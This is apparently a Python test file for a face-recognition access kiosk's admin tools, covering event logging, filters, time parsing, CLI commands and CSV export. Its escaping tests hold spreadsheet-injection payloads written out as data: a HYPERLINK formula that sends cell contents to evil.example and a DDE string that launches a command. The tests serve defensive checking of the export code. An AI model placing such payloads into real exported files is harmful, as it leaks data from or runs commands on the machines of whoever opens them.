"""Events from real decisions of the kiosk policy: filters, CSV export, the CLI."""

from __future__ import annotations

import csv
import json
import sqlite3
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from tests.admin.conftest import FakeClock, decide
from turnstile.admin.enrolment import Enroller
from turnstile.admin.eventexport import EventFilter, export_csv, parse_time, safe_cell, select
from turnstile.admin.people import PeopleAdmin
from turnstile.cli import main
from turnstile.config import Config, EventsConfig
from turnstile.store.gallery import Gallery
from turnstile.store.sqlite.events import EventLog
from turnstile.types import DenyReason, Outcome
from turnstile.vision.engine import Engine
from turnstile.vision.imageio import read_image


@pytest.fixture
def logged(engine: Engine, enroller: Enroller, people: PeopleAdmin, gallery: Gallery,
           config: Config, file_conn: sqlite3.Connection, examples: Path,
           clock: FakeClock) -> EventLog:
    """Obama granted, then denied once deactivated; Biden unknown: three real decisions."""
    log = EventLog(file_conn, EventsConfig(retention_days=0))
    obama = people.enrol("Barack Obama", "E1",
                         [enroller.assess_file(examples / "obama.jpg").template()], consent=True)
    probe = read_image(examples / "obama-720p.jpg")
    granted = decide(engine, gallery, config, probe, clock.now)
    assert granted.outcome is Outcome.GRANTED and granted.match is not None
    assert granted.match.name == "Barack Obama"
    log.record(granted)
    people.set_active(obama.id, False)
    denied = decide(engine, gallery, config, probe, clock.now + timedelta(minutes=1))
    assert denied.outcome is Outcome.DENIED and denied.reason is DenyReason.INACTIVE
    log.record(denied)
    stranger = decide(engine, gallery, config, read_image(examples / "biden.jpg"),
                      clock.now + timedelta(minutes=2))
    assert stranger.outcome is Outcome.UNKNOWN
    log.record(stranger)
    return log


def test_csv_contains_the_decisions(logged: EventLog, tmp_path: Path) -> None:
    target = tmp_path / "out" / "events.csv"
    assert export_csv(logged, EventFilter(), target) == 3
    rows = list(csv.DictReader(target.open()))
    assert [r["outcome"] for r in rows] == ["granted", "denied", "unknown"]
    assert [r["name"] for r in rows] == ["Barack Obama", "Barack Obama", ""]
    assert rows[1]["reason"] == "inactive"
    assert float(rows[0]["similarity"]) > 0.45 and rows[0]["margin"]
    assert "thumbnail" not in target.read_text()


def test_filters(logged: EventLog, clock: FakeClock, people: PeopleAdmin) -> None:
    obama = people.store.people.find("E1")[0].id
    assert len(select(logged, EventFilter(person_id=obama))) == 2
    assert [e.outcome for e in select(logged, EventFilter(outcome=Outcome.DENIED))] == [
        Outcome.DENIED]
    since = EventFilter(since=clock.now + timedelta(seconds=30))
    assert [e.outcome for e in select(logged, since)] == [Outcome.UNKNOWN, Outcome.DENIED]
    assert len(select(logged, EventFilter(), limit=1)) == 1


def test_erasure_leaves_an_anonymous_trace(logged: EventLog, people: PeopleAdmin,
                                           tmp_path: Path) -> None:
    people.delete(people.store.people.find("E1")[0].id)
    target = tmp_path / "events.csv"
    assert export_csv(logged, EventFilter(), target) == 3
    text = target.read_text()
    assert "Obama" not in text and "granted" in text and "inactive" in text


def test_parse_time() -> None:
    now = datetime(2026, 3, 2, 12, 0)
    assert parse_time("7d", now) == datetime(2026, 2, 23, 12, 0)
    assert parse_time("12h", now) == datetime(2026, 3, 2, 0, 0)
    assert parse_time("30m", now) == datetime(2026, 3, 2, 11, 30)
    assert parse_time("2026-03-01", now) == datetime(2026, 3, 1)
    with pytest.raises(ValueError, match="cannot read 'yesterday'"):
        parse_time("yesterday", now)


def test_events_command(logged: EventLog, db_path: Path, tmp_path: Path, models_dir: Path,
                        capsys: pytest.CaptureFixture[str]) -> None:
    config = tmp_path / "config.toml"
    config.write_text(f'[models]\ndir = "{models_dir}"\n')
    base = ["--db", str(db_path), "--config", str(config)]
    target = tmp_path / "events.csv"
    assert main(["events", *base, "--since", "2026-03-01", "--csv", str(target)]) == 0
    assert "3 event(s) written" in capsys.readouterr().out
    assert [r["outcome"] for r in csv.DictReader(target.open())] == [
        "granted", "denied", "unknown"]
    assert main(["events", *base, "--person", "E1", "--json"]) == 0
    listed = json.loads(capsys.readouterr().out)["events"]
    assert [e["outcome"] for e in listed] == ["denied", "granted"]
    assert all(e["similarity"] == round(e["similarity"], 4) for e in listed)
    assert main(["events", *base]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert any(line.rstrip().endswith(("inactive", "expired", "out_of_schedule",
                                       "not_yet_valid", "not_in_group"))
               for line in lines), lines  # the list says why, as the panel does
    assert main(["events", *base, "--since", "soon"]) == 2
    assert "cannot read 'soon'" in capsys.readouterr().err
    assert main(["events", *base, "--person", "nobody"]) == 2


@pytest.mark.parametrize(("value", "cell"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-0.1234", "-0.1234"),  # a number stays a number
    ("Ada Lovelace", "Ada Lovelace"),
    (None, ""),
])
def test_cells_a_spreadsheet_would_run_are_escaped(value: str | None, cell: str) -> None:
    assert safe_cell(value) == cell


def test_export_escapes_formulas_and_hides_stream_passwords(
        logged: EventLog, file_conn: sqlite3.Connection, tmp_path: Path) -> None:
    file_conn.execute("UPDATE events SET name = '=HYPERLINK(\"http://evil.example\",\"x\")',"
                      " detail = '@SUM(1)', source = 'rtsp://admin:hunter2@10.0.0.5/stream'"
                      " WHERE outcome = 'granted'")
    target = tmp_path / "events.csv"
    export_csv(logged, EventFilter(), target)
    text = target.read_text()
    rows = list(csv.DictReader(text.splitlines()))
    assert rows[0]["name"].startswith("'=HYPERLINK") and rows[0]["detail"] == "'@SUM(1)"
    assert "hunter2" not in text and rows[0]["source"] == "rtsp://***@10.0.0.5/stream"
